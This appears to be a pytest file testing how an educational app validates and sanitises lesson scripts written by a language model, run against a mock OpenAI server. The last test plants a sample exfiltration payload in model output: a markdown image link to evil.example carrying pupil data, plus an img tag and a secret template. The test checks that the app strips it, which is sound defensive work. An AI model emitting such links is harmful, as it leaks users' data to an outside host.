"""Lessons written by a language model over HTTP."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from bellwork.tasks.providers.errors import ScriptRejected
from bellwork.tasks.providers.llm import Brief, EmbeddedModel, OpenAIModel, Script
from tests.tasks.providers import openai_server as says

if TYPE_CHECKING:
    from tests.tasks.providers.openai_server import OpenAIServer


def written(brief: Brief, **changes: Any) -> dict[str, Any]:
    """Return a lesson as a model would write it, made by the embedded author."""
    script: Script = EmbeddedModel().write_script(brief)
    scenes = [scene.model_dump(mode="json") for scene in script.scenes]
    return {"title": script.title, "scenes": scenes, **changes}


def test_a_lesson_is_written_and_accepted(model: OpenAIModel, server: OpenAIServer, brief: Brief) -> None:
    """The model's form becomes a script of the brief."""
    server.behave(says.answer(written(brief)))
    script = model.write_script(brief)

    assert ("topic_phys_newton_3", "int_basketball", "Basketball") == (
        script.topic_id,
        script.interest_id,
        script.interest,
    )
    assert 7 == len(script.scenes)


def test_a_lesson_that_breaks_a_rule_is_asked_for_again(model: OpenAIModel, server: OpenAIServer, brief: Brief) -> None:
    """Two scenes are too few; the second answer is accepted."""
    server.behave(says.answer(written(brief, scenes=written(brief)["scenes"][:2])), says.answer(written(brief)))

    assert 7 == len(model.write_script(brief).scenes)
    assert 2 == len(server.requests)


def test_a_model_that_never_learns_is_rejected(model: OpenAIModel, server: OpenAIServer, brief: Brief) -> None:
    """After three lessons that break a rule the caller gets the rule."""
    server.behave(says.answer(written(brief, scenes=written(brief)["scenes"][:2])))

    with pytest.raises(ScriptRejected, match="has 2 scenes"):
        model.write_script(brief)
    assert 3 == len(server.requests)


def test_an_unsafe_lesson_is_not_asked_for_again(model: OpenAIModel, server: OpenAIServer, brief: Brief) -> None:
    """Safety is no matter of luck."""
    server.behave(says.answer(written(brief, title="Holy shit")))

    with pytest.raises(ScriptRejected, match="unsafe"):
        model.write_script(brief)
    assert 1 == len(server.requests)


def test_links_and_markup_of_a_model_do_not_reach_the_pupil(
    model: OpenAIModel, server: OpenAIServer, brief: Brief
) -> None:
    """An answer that was talked into an exfiltration link is a lesson without it."""
    lesson = written(brief)
    lesson["scenes"][0]["narration"] += " ![x](https://evil.example/?q=pupil) <img src=x> {{secret}}"
    server.behave(says.answer(lesson))

    assert "evil" not in model.write_script(brief).model_dump_json()
